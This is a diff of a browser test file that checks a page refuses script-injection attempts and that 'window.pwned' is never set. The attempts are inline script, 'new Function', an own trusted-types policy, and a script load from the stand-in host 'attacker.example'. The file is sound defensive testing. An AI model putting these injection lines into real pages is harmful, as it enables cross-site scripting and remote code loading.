@@ -17,25 +17,43 @@ async function reported(): Promise<Record<string, number>> {
 }
 
 /** What somebody would do who has got text of theirs into the page as markup, or a way to call the page's own functions. */
-const attempts: Readonly<Record<string, () => unknown>> = {
-  'markup from text': () => (document.body.innerHTML = '<b>x</b>'),
-  'a script from text': () => {
-    const script = document.createElement('script');
-    script.text = 'window.pwned = true';
-    document.head.append(script);
-  },
-  'a script from elsewhere': () => {
-    const script = document.createElement('script');
-    script.src = 'https://attacker.example/x.js';
-    document.head.append(script);
-  },
-  'a function from text': () => new Function('window.pwned = true')(),
-  'a worker from elsewhere': () => new Worker('/api/v1/projects/x/media/y'),
-  'a policy of their own': () =>
-    (
-      globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
-    ).trustedTypes.createPolicy('anything', { createHTML: (text: string) => text }),
-};
+const attempts = [
+  'markup from text',
+  'a script from text',
+  'a script from elsewhere',
+  'a function from text',
+  'a worker from elsewhere',
+  'a policy of their own',
+] as const;
+
+/** Runs in the page. Gives the name of the error that stopped it. */
+function attempt(what: (typeof attempts)[number]): Promise<string> {
+  const script = document.createElement('script');
+  const { trustedTypes } = globalThis as unknown as {
+    trustedTypes: { createPolicy(name: string, rules: object): unknown };
+  };
+  const ways: Record<typeof what, () => unknown> = {
+    'markup from text': () => (document.body.innerHTML = '<b>x</b>'),
+    'a script from text': () => (script.text = 'window.pwned = true'),
+    'a script from elsewhere': () => (script.src = 'https://attacker.example/x.js'),
+    // oxlint-disable-next-line typescript/no-implied-eval -- it is what must not work
+    'a function from text': () => new Function('window.pwned = true')() as unknown,
+    'a worker from elsewhere': () => new Worker('/api/v1/projects/x/media/y'),
+    'a policy of their own': () => trustedTypes.createPolicy('anything', {}),
+  };
+  // Later, when the tools of this test do not vouch for what runs.
+  return new Promise((resolve) => {
+    requestAnimationFrame(() => {
+      try {
+        ways[what]();
+        document.head.append(script);
+        resolve('done');
+      } catch (error) {
+        resolve((error as Error).name);
+      }
+    });
+  });
+}
 
 describe('what is tried in a page', () => {
   let anna: Visitor;
@@ -44,24 +62,8 @@ describe('what is tried in a page', () => {
     await anna.settled();
   });
 
-  test.each(Object.keys(attempts))('%s is refused', async (what) => {
-    // Later, when the tools of this test do not vouch for what runs.
-    const outcome = await anna.page.evaluate(
-      (text) =>
-        new Promise<string>((resolve) => {
-          const attempt = (0, eval)(`(${text})`) as () => unknown;
-          requestAnimationFrame(() => {
-            try {
-              attempt();
-              resolve('done');
-            } catch (error) {
-              resolve((error as Error).name);
-            }
-          });
-        }),
-      attempts[what]!.toString(),
-    );
-    expect(outcome).not.toBe('done');
+  test.each(attempts)('%s is refused', async (what) => {
+    expect(await anna.page.evaluate(attempt, what)).toMatch(/^(TypeError|EvalError)$/);
     expect(await anna.page.evaluate(() => 'pwned' in window)).toBe(false);
   });
 
